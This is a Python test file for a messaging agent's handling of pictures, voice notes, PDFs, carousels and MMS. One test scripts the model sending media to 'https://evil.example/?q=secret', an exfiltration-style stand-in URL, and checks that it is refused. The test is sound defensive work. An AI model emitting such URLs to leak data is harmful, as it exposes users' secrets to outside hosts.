"""Pictures both ways: what they send is seen, and what the agent sends arrives."""

from __future__ import annotations

import io
from pathlib import Path

from PIL import Image

from phone.clock import HeldClock
from phone.emulator.media import MAX_BYTES
from tests.house import ANA, BEN, House, call, gated, run, script
from tests.stories.test_taking_turns import all_taken

DONE = call("end_turn", reason="sent")


def photo(colour: str) -> bytes:
    """A small PNG of one colour."""
    out = io.BytesIO()
    Image.new("RGB", (8, 6), colour).save(out, "PNG")
    return out.getvalue()


def colour_of(data: bytes) -> tuple[int, ...]:
    """The first dot of a picture, roughly: JPEG is not exact."""
    with Image.open(io.BytesIO(data)) as picture:
        first = picture.convert("RGB").getpixel((0, 0))
    assert isinstance(first, tuple)
    return tuple(round(value / 255) for value in first)


CAKE = Path("media/cake.jpg").read_bytes()
RED, BLUE = (1, 0, 0), (0, 0, 1)


def test_a_photo_without_words_is_seen_by_the_agent():
    played = script("A red one.")

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        sent = await house.text(media_urls=[red])
        screen = await house.answered(sent.conversation_id)
        assert [colour_of(picture.data) for picture in played.pictures()] == [RED]
        assert played.asked()[-1].startswith(f"[m1 · {ANA} · iMessage")
        assert screen.bodies == ["A red one."]

    run(story, played)


def test_an_earlier_photo_is_not_sent_along_again_and_is_looked_at_when_asked_about():
    played = script("Nice.", call("look_again", media="m1.1"), "It is red.")

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        await house.text("look", media_urls=[red])
        await house.settled(turns=1)
        assert "look_again" not in played.tools(0)
        sent = await house.text("which colour was it?")
        screen = await house.answered(sent.conversation_id, turns=2)
        assert [len(played.pictures(place)) for place in range(3)] == [1, 0, 1]
        assert "with m1.1]\nlook" in played.talk(1)[0]
        assert colour_of(played.pictures(2)[0].data) == RED
        assert screen.bodies[-1] == "It is red."

    run(story, played)


def test_a_voice_note_is_named_for_what_it_is():
    played = script("I can't listen to voice notes. Could you type it?")

    async def story(house: House) -> None:
        note = await house.picture(b"OggS" + b"\0" * 40, "audio/ogg")
        await house.text(media_urls=[note])
        await house.settled(turns=1)
        assert "[m1.1: a voice note or another sound, and you cannot hear]" in str(played.seen[0])

    run(story, played)


def test_a_model_that_cannot_see_is_told_of_a_picture_in_words():
    played = script("I can't look at pictures.")

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        await house.text("look", media_urls=[red])
        await house.settled(turns=1)
        assert played.pictures() == []
        assert "[m1.1: a picture, and you cannot see pictures]" in str(played.seen[0])

    run(story, played, settings={"threedots_vision": False})


def test_several_photos_are_several_messages_and_all_are_seen():
    played = gated("Red and blue.")

    async def story(house: House) -> None:
        await house.text("wait for it")
        await played.is_thinking()
        red = await house.picture(photo("red"), "image/png")
        blue = await house.picture(photo("blue"), "image/png")
        sent = await house.text("these two", media_urls=[red, blue])
        assert len(sent.message_ids) == 2
        await house.until(all_taken(3))
        played.go_on()
        await house.settled(turns=1)
        assert [colour_of(picture.data) for picture in played.pictures()] == [RED, BLUE]
        _, first, second = played.asked()
        assert first.startswith("[m2 ") and second.startswith("[m3 ")
        assert second.endswith("these two")

    run(story, played)


def test_a_carousel_of_eight_is_gathered_before_the_model_is_asked_again():
    played = script("A red one.", "Hello Ben!", "Eight of them.")

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        sent = await house.text(media_urls=[red])
        await house.until(lambda _: len(played.seen) == 1)
        await house.text(media_urls=[red])
        await house.until(all_taken(2))
        for number in range(3, 9):
            await house.text(media_urls=[red])
            await house.stored(number)
        await house.text("hi", from_handle=BEN)
        await house.until(lambda _: len(played.seen) == 2)
        assert "hi" in played.asked()[-1], "nobody was asked about one more of the photos"
        await house.pass_time(2.5)
        await house.pass_time_until_settled(turns=2, at_most=10)
        assert (await house.screen(sent.conversation_id)).bodies == ["Eight of them."]
        assert len(played.pictures()) == 8

    run(story, played, clock=HeldClock(), settings={"threedots_quiet_for": 1.0})


def test_an_attachment_that_is_no_photo_is_named_and_not_shown():
    played = script("I can't open that.")

    async def story(house: House) -> None:
        pdf = await house.picture(b"%PDF-1.7", "application/pdf")
        await house.text("my papers", media_urls=[pdf])
        await house.settled(turns=1)
        assert played.pictures() == []
        assert "[m1.1: an attachment you cannot open (application/pdf)]" in str(played.seen[-1])

    run(story, played)


def test_a_photo_that_cannot_be_fetched_delays_no_answer():
    played = script("I can't see it.")

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        await house.fail("GET", "/v1/messages/*/media", status=404)
        await house.text("look", media_urls=[red])
        await house.settled(turns=1)
        assert played.pictures() == []
        assert "an attachment that could not be opened (NotFound)" in str(played.seen[-1])

    run(story, played)


def test_a_picture_of_the_owners_is_sent_by_its_handle_and_can_be_fetched():
    played = script(call("send", media=["cake"]), DONE)

    async def story(house: House) -> None:
        sent = await house.text("it's my birthday")
        screen = await house.answered(sent.conversation_id)
        assert screen.last["body"] == ""
        [url] = screen.last["media_urls"]
        answer = await house.http.get(url)
        assert answer.headers["content-type"] == "image/jpeg"
        assert answer.content == CAKE
        assert "cake: A slice of pink birthday cake" in played.context()

    run(story, played)


def test_a_picture_at_an_address_of_its_own_is_sent_by_its_handle(tmp_path: Path):
    played = script(call("send", text="Our menu:", media=["menu"]), DONE)
    (tmp_path / "media.toml").write_text(
        '[menu]\nurl = "https://example.com/menu.png"\nshows = "The menu"\n'
    )

    async def story(house: House) -> None:
        sent = await house.text("what's for lunch?")
        screen = await house.answered(sent.conversation_id)
        assert screen.bodies == ["Our menu:"]
        assert screen.last["media_urls"] == ["https://example.com/menu.png"]

    run(story, played, settings={"threedots_prompts_dir": tmp_path})


def test_a_photo_they_sent_can_be_sent_back_by_its_reference():
    played = script(call("send", text="This one?", media=["m1.1"]), DONE)

    async def story(house: House) -> None:
        red = await house.picture(photo("red"), "image/png")
        sent = await house.text("keep this", media_urls=[red])
        screen = await house.answered(sent.conversation_id)
        [url] = screen.last["media_urls"]
        assert colour_of((await house.http.get(url)).content) == RED

    run(story, played)


def test_a_handle_nobody_knows_comes_back_with_those_there_are():
    played = script(call("send", media=["https://evil.example/?q=secret"]), "No picture, sorry.")

    async def story(house: House) -> None:
        sent = await house.text("send me a picture")
        screen = await house.answered(sent.conversation_id)
        assert "is no picture you have. You have: dusk, ocean" in played.retried()[0]
        assert screen.bodies == ["No picture, sorry."]
        assert len(await house.calls("POST", "/v1/messages")) == 1

    run(story, played)


def test_on_imessage_several_pictures_are_a_carousel_and_the_words_follow():
    played = script(call("send", text="Which one?", media=["dusk", "ocean"]), DONE)

    async def story(house: House) -> None:
        sent = await house.text("show me backgrounds")
        screen = await house.answered(sent.conversation_id)
        carousel, words = [c["body"] for c in await house.calls("POST", "/v1/messages")]
        assert len(carousel["media_urls"]) == 2 and not carousel.get("body")
        assert words["body"] == "Which one?" and "media_urls" not in words
        assert screen.bodies == ["", "", "Which one?"]
        assert [len(m["media_urls"]) for m in screen.outbound] == [1, 1, 0]
        assert played.told() == ["m2 sent by imessage.\nm3 sent by imessage."]

    run(story, played)


def test_several_pictures_without_words_are_one_carousel():
    played = script(call("send", media=["dusk", "ocean", "stars"]), DONE)

    async def story(house: House) -> None:
        sent = await house.text("show me")
        screen = await house.answered(sent.conversation_id)
        assert len(await house.calls("POST", "/v1/messages")) == 1
        assert len(screen.outbound) == 3

    run(story, played)


def test_on_sms_pictures_go_as_mms():
    played = script(call("send", text="Which one?", media=["dusk", "ocean"]), DONE)

    async def story(house: House) -> None:
        await house.person(ANA, imessage=False)
        sent = await house.text("show me backgrounds")
        screen = await house.answered(sent.conversation_id)
        assert [m["channel"] for m in screen.outbound] == ["mms", "sms"]
        assert [len(m["media_urls"]) for m in screen.outbound] == [2, 0]
        assert played.told() == ["m2 sent by mms.\nm3 sent by sms."]

    run(story, played)


def test_a_photo_too_large_to_fetch_is_named_and_not_shown():
    played = script("That one is too large for me.")

    async def story(house: House) -> None:
        assert MAX_BYTES > 20 * 1024 * 1024, "the twin takes larger files than the agent fetches"
        huge = await house.picture(photo("red") + bytes(20 * 1024 * 1024), "image/png")
        await house.text("look", media_urls=[huge])
        await house.settled(turns=1)
        assert played.pictures() == []
        assert "an attachment that could not be opened (Refused)" in str(played.seen[-1])

    run(story, played)
